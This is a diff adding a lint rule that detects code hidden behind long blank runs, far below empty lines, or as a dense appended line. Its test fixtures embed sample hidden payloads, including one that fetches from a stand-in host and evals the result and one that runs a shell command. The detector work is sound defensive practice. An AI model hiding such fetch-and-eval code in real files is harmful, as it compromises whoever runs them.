@@ -1,0 +1,142 @@
+import { defineRule } from '../src/define.js';
+import type { Problem, SourceFile } from '../src/types.js';
+
+const blanks = ' '.repeat(180);
+const dense = `(function(){var q=[process.env.HOME];${Array.from({ length: 90 }, (_, at) => `q.push(function(a,b){return a+b*${at}});`).join('')}q.map(function(f){return f(1,2)})})();`;
+const readable = Array.from({ length: 24 }, (_, at) => `exports.step${at} = value => value + ${at};`).join('\n');
+
+export default defineRule({
+  meta: {
+    summary: 'Puts code where a reader does not look',
+    why: 'Editors and web pages show the first hundred columns and the first screen. Code behind a long run of blanks, below hundreds of empty lines, or as one dense line at the end of a file that people wrote, is there not to be read. Deeply nested and aligned code has its blanks before and between words too, but in every line; bundles are dense all over; compilers write their helpers at the top.',
+    behaviour: 'obfuscation',
+    messages: {
+      beside: 'Holds code behind {count} blanks in a line',
+      below: 'Holds code below {count} empty lines',
+      appended: 'Ends in one dense line of code ({count} characters), unlike the rest of the file',
+    },
+    bits: { beside: 10, below: 8, appended: 7 },
+  },
+  examples: {
+    flags: [
+      {
+        title: 'a call stands beside the last bracket',
+        files: {
+          'index.js': `module.exports = function pad(text) {\n  return ' ' + text;\n};${blanks}require('https').get('https://a.invalid', r => r.on('data', d => eval(String(d))));`,
+        },
+      },
+      {
+        title: 'a call stands far below',
+        files: {
+          'index.js': `module.exports = text => text.trim();${'\n'.repeat(220)}require('child_process').exec('id');`,
+        },
+      },
+      { title: 'a dense function follows code for people', files: { 'index.js': `${readable}\n${dense}` } },
+    ],
+    passes: [
+      {
+        title: 'a table is aligned by blanks',
+        code: `module.exports = [\n${['red', 'green', 'blue', 'grey'].map(name => `  ['${name}',${blanks}paint('${name}')],`).join('\n')}\n];`,
+      },
+      {
+        title: 'the whole file is dense',
+        files: { 'index.js': `/*! a licence */\n${dense}` },
+      },
+      {
+        title: 'a comment stands far to the right',
+        files: {
+          'index.js': `module.exports = 1;${blanks}// the number of the first page, as require() and eval() have it (see above)`,
+        },
+      },
+      {
+        title: 'the last line is data',
+        files: {
+          'index.js': `${readable}\nexports.table = [${Array.from({ length: 400 }, (_, at) => at).join(',')}];`,
+        },
+      },
+    ],
+  },
+  file({ file, report }) {
+    look(file, report);
+  },
+  text({ file, report }) {
+    look(file, report);
+  },
+});
+
+/** What a line of code does when it does anything. */
+const ACTS =
+  /\b(?:require|import|eval|Function|fetch|process|global(?:This)?|window|document|atob|Buffer|module|setTimeout|setInterval|XMLHttpRequest|async|_0x\w+)\b/;
+/** Fewer blanks are somebody's idea of order. */
+const BESIDE = /[ \t]{140,}(?=\S)/g;
+const BELOW = /(?:\r?\n[ \t]*){150,}(?=\S)/;
+
+function look(file: SourceFile, report: (problem: Problem) => void): void {
+  const found = beside(file.text) ?? below(file.text) ?? appended(file.text);
+  if (!found) return;
+  const { messageId, count, start, says } = found;
+  report({
+    messageId,
+    data: { count },
+    chain: [{ role: 'context', says, origin: { file, start, end: Math.min(start + 300, lineEnd(file.text, start)) } }],
+  });
+}
+
+interface Hidden {
+  readonly messageId: string;
+  readonly count: number;
+  readonly start: number;
+  readonly says: string;
+}
+
+/** Code in one or two lines only: who aligns a table does so in each. */
+function beside(text: string): Hidden | undefined {
+  const hidden: Hidden[] = [];
+  let lines = 0;
+  for (const match of text.matchAll(BESIDE)) {
+    if (++lines > 20) return undefined;
+    const start = match.index + match[0].length;
+    const before = text.slice(text.lastIndexOf('\n', match.index) + 1, match.index);
+    const after = text.slice(start, Math.min(start + 5_000, lineEnd(text, start)));
+    // A line that merely begins far to the right is nested deeply, or the text was moved as a whole.
+    if (before.trim() === '' || !isCode(after)) continue;
+    hidden.push({ messageId: 'beside', count: match[0].length, start, says: 'stands behind a run of blanks' });
+  }
+  return lines <= 3 ? hidden[0] : undefined;
+}
+
+function below(text: string): Hidden | undefined {
+  const match = BELOW.exec(text);
+  if (!match || match.index === 0) return undefined;
+  const start = match.index + match[0].length;
+  if (!isCode(text.slice(start, start + 5_000))) return undefined;
+  return { messageId: 'below', count: match[0].split('\n').length - 1, start, says: 'stands far below the rest' };
+}
+
+/** One dense line that acts, last in a file that otherwise has lines as people write them. */
+function appended(text: string): Hidden | undefined {
+  const trimmed = text.trimEnd().replace(/\n\/\/# sourceMappingURL=\S*$/, '');
+  const start = trimmed.lastIndexOf('\n') + 1;
+  const last = trimmed.slice(start);
+  if (start === 0 || last.length < 1_100 || last.length > 500_000) return undefined;
+  const others = trimmed.slice(0, start).split('\n');
+  if (others.some(line => line.length > 400)) return undefined;
+  const written = others.filter(line => line.trim().length > 2 && !/^\s*(?:\/\/|\/?\*)/.test(line));
+  if (written.length < 20) return undefined;
+  const bare = last.replace(/'(?:[^'\\]|\\.)*'|"(?:[^"\\]|\\.)*"/g, 'S').replace(/\/\/.*/, '');
+  const functions = bare.match(/\bfunction\b|=>/g)?.length ?? 0;
+  const calls = bare.match(/[\w\])]\(/g)?.length ?? 0;
+  if (functions < 2 || calls < 6 || !ACTS.test(bare)) return undefined;
+  return { messageId: 'appended', count: last.length, start, says: 'is one dense line, unlike the rest' };
+}
+
+/** Twenty characters that call something, outside of a comment and of a string. */
+function isCode(text: string): boolean {
+  const bare = text.trimStart();
+  return bare.length >= 20 && !/^(?:\/[/*]|\*|['"`])/.test(bare) && /[\w\])]\s{0,5}\(/.test(bare) && ACTS.test(bare);
+}
+
+function lineEnd(text: string, from: number): number {
+  const end = text.indexOf('\n', from);
+  return end < 0 ? text.length : end;
+}
